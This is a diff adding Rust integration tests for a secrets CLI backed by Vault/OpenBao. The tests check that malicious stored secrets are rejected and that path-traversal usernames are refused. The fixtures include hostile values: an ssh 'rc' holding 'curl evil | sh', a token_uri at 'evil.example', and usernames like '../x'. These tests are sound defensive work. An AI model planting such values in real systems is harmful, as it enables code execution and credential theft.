@@ -689,3 +689,295 @@ fn put_takes_env_files_and_pairs() {
     assert_eq!(got("mydb").expose("password"), Some("j-SENTINEL"));
     assert_eq!(got("huggingface").expose("token"), Some("hf_SENTINEL_env"));
 }
+
+/// Issue 15.2: a pull writes only key files into `~/.ssh` and only an authorized_user credential's keys
+/// into the GCP file; anything else in Vault stops the pull before any write.
+#[test]
+fn a_pull_with_names_or_keys_outside_the_allow_lists_writes_nothing() {
+    let Some(v) = VaultTest::new("allow") else {
+        return;
+    };
+    let store = v.store();
+    let put = |provider: &str, pairs: &[(&str, &str)]| {
+        block_on(SecretStore::put(
+            &store,
+            provider,
+            &pairs.iter().copied().collect(),
+            None,
+        ))
+        .unwrap();
+    };
+    put(
+        "ssh",
+        &[
+            ("id_x", "PRIVATE-SENTINEL\n"),
+            ("id_x.pub", "ssh-ed25519 X x\n"),
+            ("rc", "curl evil | sh\n"),
+            ("known_hosts2", "* ssh-ed25519 EVIL\n"),
+        ],
+    );
+    let err = v.fails(&["secrets", "pull", "ssh"]);
+    assert!(err.contains("invalid ssh key name `known_hosts2`"), "{err}");
+    assert!(!v.home().join(".ssh").exists(), "something was written");
+
+    let adc = v
+        .home()
+        .join(".config/gcloud/application_default_credentials.json");
+    std::fs::create_dir_all(adc.parent().unwrap()).unwrap();
+    let local = r#"{"type": "authorized_user", "client_id": "c", "client_secret": "s", "refresh_token": "rt-SENTINEL-local"}"#;
+    std::fs::write(&adc, local).unwrap();
+    put(
+        "gcp",
+        &[
+            ("client_id", "c2"),
+            ("client_secret", "s2-SENTINEL"),
+            ("token_uri", "https://evil.example/token"),
+        ],
+    );
+    let before = home_files(&v.home());
+    for args in [&["secrets", "pull", "gcp"][..], &["secrets", "pull"]] {
+        let err = v.fails(args);
+        assert!(
+            err.contains("gcp secrets have an unknown key `token_uri`")
+                || err.contains("invalid ssh key name"),
+            "{err}"
+        );
+        assert_eq!(home_files(&v.home()), before, "rh {args:?} wrote something");
+    }
+    assert_eq!(std::fs::read(&adc).unwrap(), local.as_bytes());
+}
+
+/// Issue 15.4: direct Vault access checks the username with the server's grammar, so it is one path
+/// segment under `rh/`.
+#[test]
+fn a_username_outside_the_server_grammar_is_refused() {
+    let Some(mut v) = VaultTest::new("username") else {
+        return;
+    };
+    let err = v.fails(&["--username", "../x", "secrets", "get", "aws"]);
+    assert!(err.contains(r#"invalid username "../x""#), "{err}");
+    assert_eq!(error_lines(&err).lines().count(), 1, "{err}");
+    v.t.env("RH_USERNAME", "bob/aws");
+    let err = v.fails(&["secrets", "put", "mydb", "password=x"]);
+    assert!(err.contains(r#"invalid username "bob/aws""#), "{err}");
+}
+
+/// The README's templated per-user policy, as text: `<mount>/…/rh/<entity name>/…` only.
+const USER_POLICY: &str = r#"path "secret/data/rh/{{identity.entity.name}}/*" {
+  capabilities = ["create", "read", "update", "delete"]
+}
+path "secret/metadata/rh/{{identity.entity.name}}/*" {
+  capabilities = ["create", "read", "update", "delete", "list"]
+}
+"#;
+
+/// Runs the official CLI as root against the shared OpenBao.
+fn bao_root(args: &[&str], stdin: Option<&str>) -> serde_json::Value {
+    let mut cmd = Command::new(bao());
+    cmd.args(args)
+        .env("VAULT_ADDR", rh_test::service_env("VAULT_ADDR").unwrap())
+        .env("VAULT_TOKEN", rh_test::service_env("VAULT_TOKEN").unwrap())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().expect("run bao");
+    if let Some(input) = stdin {
+        child
+            .stdin
+            .take()
+            .unwrap()
+            .write_all(input.as_bytes())
+            .unwrap();
+    }
+    drop(child.stdin.take());
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "bao {args:?}: {}", stderr(&out));
+    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null)
+}
+
+/// Removes what the policy test created in the shared OpenBao, also when it fails.
+struct PolicyCleanup {
+    mount: String,
+    policy: String,
+    entity: Option<String>,
+}
+
+impl Drop for PolicyCleanup {
+    fn drop(&mut self) {
+        let run = |args: &[&str]| {
+            let _ = Command::new(bao())
+                .args(args)
+                .env("VAULT_ADDR", rh_test::service_env("VAULT_ADDR").unwrap())
+                .env("VAULT_TOKEN", rh_test::service_env("VAULT_TOKEN").unwrap())
+                .output();
+        };
+        run(&["auth", "disable", &self.mount]);
+        run(&["policy", "delete", &self.policy]);
+        if let Some(id) = &self.entity {
+            run(&["delete", &format!("identity/entity/id/{id}")]);
+        }
+    }
+}
+
+/// Issue 15.4: with the README's templated policy, a user's own token reaches `rh/<their name>/` and
+/// nothing else, whatever `--username` says. Tested on the real OpenBao: a userpass login bound to an
+/// entity named like the rh user.
+#[test]
+fn the_templated_policy_keeps_each_token_on_its_own_users_path() {
+    let Some(v) = VaultTest::new("policy") else {
+        return;
+    };
+    let alice = v.user.clone();
+    let bob = format!("{alice}-bob");
+    let unique = alice.trim_start_matches("cli-");
+    let mut cleanup = PolicyCleanup {
+        mount: format!("up-{unique}"),
+        policy: format!("rh-user-{unique}"),
+        entity: None,
+    };
+    bao_root(
+        &["policy", "write", &cleanup.policy, "-"],
+        Some(USER_POLICY),
+    );
+    bao_root(
+        &[
+            "auth",
+            "enable",
+            &format!("-path={}", cleanup.mount),
+            "userpass",
+        ],
+        None,
+    );
+    let password = format!("pw-{unique}");
+    bao_root(
+        &[
+            "write",
+            &format!("auth/{}/users/{alice}", cleanup.mount),
+            &format!("password={password}"),
+            &format!("token_policies={}", cleanup.policy),
+        ],
+        None,
+    );
+    let mounts = bao_root(&["auth", "list", "-format=json"], None);
+    let accessor = mounts[format!("{}/", cleanup.mount)]["accessor"]
+        .as_str()
+        .expect("accessor")
+        .to_owned();
+    let entity = bao_root(
+        &[
+            "write",
+            "-format=json",
+            "identity/entity",
+            &format!("name={alice}"),
+        ],
+        None,
+    );
+    let id = entity["data"]["id"].as_str().expect("entity id").to_owned();
+    cleanup.entity = Some(id.clone());
+    bao_root(
+        &[
+            "write",
+            "identity/entity-alias",
+            &format!("name={alice}"),
+            &format!("canonical_id={id}"),
+            &format!("mount_accessor={accessor}"),
+        ],
+        None,
+    );
+    let login = bao_root(
+        &[
+            "write",
+            "-format=json",
+            &format!("auth/{}/login/{alice}", cleanup.mount),
+            &format!("password={password}"),
+        ],
+        None,
+    );
+    let alice_token = login["auth"]["client_token"]
+        .as_str()
+        .expect("token")
+        .to_owned();
+
+    // Bob's secret, written as root.
+    let bob_store = VaultStore::new(&VaultOptions::new(
+        &v.addr,
+        SecretString::from(v.token.clone()),
+        Some(&bob),
+    ))
+    .unwrap();
+    block_on(SecretStore::put(
+        &bob_store,
+        "aws",
+        &[("access_key", "AKIABOB"), ("secret_key", "bob-SENTINEL")]
+            .into_iter()
+            .collect(),
+        None,
+    ))
+    .unwrap();
+
+    // Alice, with her own token: her path works (write, read, list, history, delete).
+    let mut t = CliTest::new(env!("CARGO_BIN_EXE_rh"));
+    t.env("VAULT_ADDR", &v.addr)
+        .env("VAULT_TOKEN", &alice_token);
+    let as_alice = |args: &[&str]| {
+        let mut all = vec!["--username", alice.as_str()];
+        all.extend(args);
+        let out = t.run(&all);
+        assert_clean(&out);
+        out
+    };
+    for args in [
+        &["secrets", "put", "mydb", "password=alice-SENTINEL"][..],
+        &["secrets", "update", "mydb", "user=alice"],
+        &["secrets", "get", "mydb"],
+        &["secrets", "history", "mydb"],
+        &["secrets", "pull", "--dry-run"],
+    ] {
+        let out = as_alice(args);
+        assert!(out.status.success(), "rh {args:?}: {}", stderr(&out));
+    }
+    let got = block_on(SecretStore::get(&v.store(), "mydb"))
+        .unwrap()
+        .unwrap()
+        .0;
+    assert_eq!(got.keys().collect::<Vec<_>>(), ["password", "user"]);
+
+    // Claiming to be bob: every read and write is refused by Vault.
+    for args in [
+        &["--username", bob.as_str(), "secrets", "get", "aws"][..],
+        &[
+            "--username",
+            bob.as_str(),
+            "secrets",
+            "put",
+            "aws",
+            "access_key=A",
+            "secret_key=S",
+        ],
+        &[
+            "--username",
+            bob.as_str(),
+            "secrets",
+            "delete",
+            "aws",
+            "--remote",
+            "--yes",
+        ],
+        &["--username", bob.as_str(), "secrets", "pull", "--dry-run"],
+    ] {
+        let out = t.run(args);
+        assert_clean(&out);
+        assert_eq!(out.status.code(), Some(1), "rh {args:?}: {}", stdout(&out));
+        assert!(
+            stderr(&out).contains("refused the token (403)"),
+            "rh {args:?}: {}",
+            stderr(&out)
+        );
+    }
+    // Bob's secret is untouched.
+    let got = block_on(SecretStore::get(&bob_store, "aws"))
+        .unwrap()
+        .unwrap();
+    assert_eq!(got.1, 1);
+    drop(cleanup);
+}
